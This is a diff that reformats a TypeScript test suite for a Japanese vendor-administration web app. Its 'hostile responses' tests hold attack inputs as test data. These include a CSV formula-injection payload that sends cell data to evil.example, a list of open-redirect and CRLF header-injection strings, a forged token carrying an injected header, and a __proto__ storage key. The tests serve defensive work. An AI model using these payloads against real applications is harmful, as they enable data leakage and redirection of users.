@@ -5,8 +5,33 @@ import * as assert from 'uvu/assert'
 import defaultConfig from '../../static/config.json' with { type: 'json' }
 import { createPlatform, type Platform } from '../platform/platform.ts'
 import {
-  alert, allow, area, button, departures, dialog, fieldErrors, formMessages, goTo, heading, inAnotherTab, key, keysOf, open, paste, pause,
-  press, rows, savedBy, settled, signIn, status, table, text, textbox, type, until,
+  alert,
+  allow,
+  area,
+  button,
+  departures,
+  dialog,
+  fieldErrors,
+  formMessages,
+  goTo,
+  heading,
+  inAnotherTab,
+  key,
+  keysOf,
+  open,
+  paste,
+  pause,
+  press,
+  rows,
+  savedBy,
+  settled,
+  signIn,
+  status,
+  table,
+  text,
+  textbox,
+  type,
+  until,
 } from './open.tsx'
 import { entries, farm, groupPanel, intercept, openUsers, smallPlatform as people, takeCalls } from './peoplePage.ts'
 import { fillIn, gateResponses, isIdle, isReady, openCreate, sent, smallPlatform } from './vendorPage.ts'
@@ -18,8 +43,14 @@ const names = () => (table(title) ? rows(title).map(([name]) => name!) : [])
 const list = '/api/v1/vendors/get_detail/'
 
 const wireVendor = (values: object) => ({
-  id: 1, name: '農園', contract_number: 'AG-1', member_type: { id: 1, name: '一般会員' }, is_active: 1, expiration_date: '2027-03-31',
-  count: { user: 0, group: 0, application: 0 }, ...values,
+  id: 1,
+  name: '農園',
+  contract_number: 'AG-1',
+  member_type: { id: 1, name: '一般会員' },
+  is_active: 1,
+  expiration_date: '2027-03-31',
+  count: { user: 0, group: 0, application: 0 },
+  ...values,
 })
 
 async function openVendors(body: unknown, path = '/vendors') {
@@ -81,8 +112,12 @@ test('T35 markup in a list of errors is literal text, in a form, in a notice and
 // ---- hostile responses ----
 
 test('H24 rows with the same id, or with 1 and "1", leave no ghosts behind when they are filtered', async () => {
-  const twins = [[1, '甲'], ['1', '乙'], [1, '丙'], ['2', '丁']]
-    .map(([id, name]) => wireVendor({ id, name, contract_number: `AG-${name}` }))
+  const twins = [
+    [1, '甲'],
+    ['1', '乙'],
+    [1, '丙'],
+    ['2', '丁'],
+  ].map(([id, name]) => wireVendor({ id, name, contract_number: `AG-${name}` }))
   await openVendors(twins)
   const all = names()
   assert.ok(all.includes('丁') && all.length > 1)
@@ -133,14 +168,20 @@ test('H27 counts that are texts, negative or no numbers are numbers on the scree
 })
 
 test('H28 user details that hold an error, or names that are no texts, give nobody a privilege and break nothing', async () => {
-  for (const body of [{ errors: ['システムエラー'] }, { results: [{ system_admin: true }] },
-    { system_admin: { is: true }, userName: 'x' }]) {
+  for (const body of [
+    { errors: ['システムエラー'] },
+    { results: [{ system_admin: true }] },
+    { system_admin: { is: true }, userName: 'x' },
+  ]) {
     const platform = createPlatform()
     platform.faults.push({ path: '/api/v1/user/get_detail/', status: 200, body })
     await open('/vendors', { as: 'systemAdmin', platform })
     await until(() => heading() === '認証エラー')
     assert.is(area('メインメニュー')?.querySelector('a') ?? null, null)
-    assert.is(platform.requests.some(({ path }) => path === list), false)
+    assert.is(
+      platform.requests.some(({ path }) => path === list),
+      false,
+    )
   }
   const platform = createPlatform()
   const body = { id: 1, system_admin: true, vendor_id: 1, userName: 'x', family_name: { ja: '山田' }, given_name: ['花子'] }
@@ -153,7 +194,12 @@ test('H29 every column of the CSV is made a text where it would be a formula, an
   const formula = '=HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x'
   const type = { id: formula, name: formula }
   const values = {
-    id: formula, name: formula, contract_number: formula, member_type: type, expiration_date: '=1+1', count: { user: -1 },
+    id: formula,
+    name: formula,
+    contract_number: formula,
+    member_type: type,
+    expiration_date: '=1+1',
+    count: { user: -1 },
     notify_email_address: formula,
   }
   await openVendors([wireVendor(values)])
@@ -223,9 +269,16 @@ for (const [what, name] of Object.entries(disguised)) {
     await press([...document.querySelectorAll('button')].find(entry => entry.getAttribute('aria-label') === `${isolated}を削除`)!)
     await until(() => dialog('ベンダー削除'))
     assert.ok(dialog()!.textContent!.includes(`ベンダー「${isolated}」を削除します。`))
-    assert.ok([...dialog()!.querySelectorAll('p')].some(one => one.textContent === name), 'the name alone can be copied')
-    for (const wrong of ['青森農園', '青森が農園', name.normalize('NFKC') === name ? `${name} ` : name.normalize('NFKC'),
-      name.slice(0, -1)]) {
+    assert.ok(
+      [...dialog()!.querySelectorAll('p')].some(one => one.textContent === name),
+      'the name alone can be copied',
+    )
+    for (const wrong of [
+      '青森農園',
+      '青森が農園',
+      name.normalize('NFKC') === name ? `${name} ` : name.normalize('NFKC'),
+      name.slice(0, -1),
+    ]) {
       await paste('ベンダー名', wrong)
       await press('削除')
       assert.is(fieldErrors().length, 1, JSON.stringify(wrong))
@@ -246,7 +299,10 @@ test('H35 a group that is called すべて, or like a part of every object, is i
   await openUsers('/users?vendor=2', platform)
   await until(() => entries(groupPanel()).length === 4)
   const buttons = () => [...groupPanel()!.querySelectorAll('li button')]
-  const pressed = () => buttons().filter(entry => entry.getAttribute('aria-current')).map(entry => entry.textContent)
+  const pressed = () =>
+    buttons()
+      .filter(entry => entry.getAttribute('aria-current'))
+      .map(entry => entry.textContent)
   const twins = buttons().filter(entry => entry.textContent === 'すべて')
   assert.is(twins.length, 2)
   await press(twins[1]!)
@@ -282,7 +338,7 @@ test('H37 an address of 100,000 characters shows its page, and is taken along', 
 
 test('H38 a hundred presses on what is selected already add no entry to the history', async () => {
   await openUsers('/users?vendor=2', people())
-  const entry = () => [...area('ベンダー一覧')?.querySelectorAll('li button') ?? []].find(({ textContent }) => textContent === farm)
+  const entry = () => [...(area('ベンダー一覧')?.querySelectorAll('li button') ?? [])].find(({ textContent }) => textContent === farm)
   await until(() => entry() !== undefined)
   await press(entry()!)
   await until(() => location.hash.includes('vendor=3'))
@@ -292,8 +348,18 @@ test('H38 a hundred presses on what is selected already add no entry to the hist
 })
 
 const traps = [
-  'https://evil.example/', '//evil.example/', '/\\evil.example', 'javascript:alert(1)', 'data:text/html,x', '/callback?code=a&state=b', '',
-  '/intro', '\\\\evil.example', '/vendors\r\nLocation: https://evil.example', '?to=https://evil.example', '/unauthorized',
+  'https://evil.example/',
+  '//evil.example/',
+  '/\\evil.example',
+  'javascript:alert(1)',
+  'data:text/html,x',
+  '/callback?code=a&state=b',
+  '',
+  '/intro',
+  '\\\\evil.example',
+  '/vendors\r\nLocation: https://evil.example',
+  '?to=https://evil.example',
+  '/unauthorized',
   '/resetPassword?token=x',
 ]
 
@@ -317,9 +383,17 @@ const drafts = {
 for (const [what, values] of Object.entries(drafts)) {
   test(`H40 a kept form that was tampered with (${what}) breaks nothing, and sends nothing by itself`, async () => {
     const { platform } = await open('/vendors', { as: 'systemAdmin' })
-    const user = String((await (await platform.handle(new Request('http://localhost:8080/api/v1/user/get_detail/', {
-      headers: { authorization: `Bearer ${localStorage.getItem('accessToken')}` },
-    }))).json() as { id: number }).id ?? '')
+    const user = String(
+      (
+        (await (
+          await platform.handle(
+            new Request('http://localhost:8080/api/v1/user/get_detail/', {
+              headers: { authorization: `Bearer ${localStorage.getItem('accessToken')}` },
+            }),
+          )
+        ).json()) as { id: number }
+      ).id ?? '',
+    )
     const at = JSON.stringify(['/vendors', null, null])
     const draft = { verb: 'createVendor', args: [], at, values }
     const session = { draft: JSON.stringify({ drafts: [draft], user, until: Date.now() + 60_000 }) }
@@ -364,9 +438,13 @@ test('H43 storage events that say what is not so, or concern something else, cha
     for (const init of [
       { key: 'accessToken', newValue: 'forged', storageArea: localStorage },
       { key: 'accessToken', newValue: 'x', storageArea: sessionStorage },
-      { key: 'accessToken', newValue: null, storageArea: localStorage }, { key: null, storageArea: localStorage }, { key: 'accessToken' },
-      { key: '__proto__', newValue: '{}', storageArea: localStorage }, { key: 'draft', newValue: '{', storageArea: sessionStorage },
-    ]) window.dispatchEvent(new StorageEvent('storage', init))
+      { key: 'accessToken', newValue: null, storageArea: localStorage },
+      { key: null, storageArea: localStorage },
+      { key: 'accessToken' },
+      { key: '__proto__', newValue: '{}', storageArea: localStorage },
+      { key: 'draft', newValue: '{', storageArea: sessionStorage },
+    ])
+      window.dispatchEvent(new StorageEvent('storage', init))
   })
   await isUnmoved(platform, calls)
 })
@@ -375,19 +453,28 @@ test('H44 a token that another tab replaces by garbage ends the session here, an
   const platform = createPlatform()
   const seen: (string | null)[] = []
   const { handle } = platform
-  platform.handle = request => { seen.push(request.headers.get('authorization')); return handle(request) }
+  platform.handle = request => {
+    seen.push(request.headers.get('authorization'))
+    return handle(request)
+  }
   await open('/vendors', { as: 'systemAdmin', platform })
   await inAnotherTab({ accessToken: 'x\r\nX-Injected: 1' })
   await until(() => departures.length > 0)
   assert.is(names().length, 0)
-  assert.is(seen.some(header => header?.includes('Injected')), false)
+  assert.is(
+    seen.some(header => header?.includes('Injected')),
+    false,
+  )
 })
 
 test('H45 tokens of somebody else that appear unannounced are not sent: what this page does, it does as the user it shows', async () => {
   const platform = createPlatform()
   const seen: (string | null)[] = []
   const { handle } = platform
-  platform.handle = request => { seen.push(request.headers.get('authorization')); return handle(request) }
+  platform.handle = request => {
+    seen.push(request.headers.get('authorization'))
+    return handle(request)
+  }
   await open('/vendors', { as: 'systemAdmin', platform })
   const own = localStorage.getItem('accessToken')
   const other = await platform.tokensFor('vendorUser')
@@ -455,8 +542,10 @@ test('H48 the session of a user who is signed out elsewhere is not brought back 
 // ---- forms ----
 
 test('H49 no form has a field that only a browser’s autofill would see and that is sent', async () => {
-  const hidden = () => [...document.querySelectorAll<HTMLInputElement>('form input')].filter(input =>
-    input.type === 'hidden' || input.closest('[hidden], [aria-hidden="true"]') !== null)
+  const hidden = () =>
+    [...document.querySelectorAll<HTMLInputElement>('form input')].filter(
+      input => input.type === 'hidden' || input.closest('[hidden], [aria-hidden="true"]') !== null,
+    )
   await openCreate()
   assert.equal(hidden(), [])
   const platform = people()
@@ -475,7 +564,10 @@ test('H49 no form has a field that only a browser’s autofill would see and tha
   }
   await press('保存')
   await until(() => isIdle() && (!dialog() || formMessages().length))
-  assert.is(takeCalls(platform).some(call => call.includes('autofilled')), false)
+  assert.is(
+    takeCalls(platform).some(call => call.includes('autofilled')),
+    false,
+  )
 })
 
 test('H50 a sign-in by an id token of a megabyte succeeds, and so does the sign-out', async () => {
@@ -484,7 +576,7 @@ test('H50 a sign-in by an id token of a megabyte succeeds, and so does the sign-
   platform.handle = async request => {
     const response = await handle(request)
     if (!new URL(request.url).pathname.endsWith('/oauth2/code/')) return response
-    const { idToken, ...rest } = await response.json() as { idToken: string }
+    const { idToken, ...rest } = (await response.json()) as { idToken: string }
     const [head, claims, signature] = idToken.split('.')
     const padded = { ...JSON.parse(Buffer.from(claims!, 'base64url').toString()), roles: 'x'.repeat(1_000_000) }
     return Response.json({ ...rest, idToken: `${head}.${Buffer.from(JSON.stringify(padded)).toString('base64url')}.${signature}` })
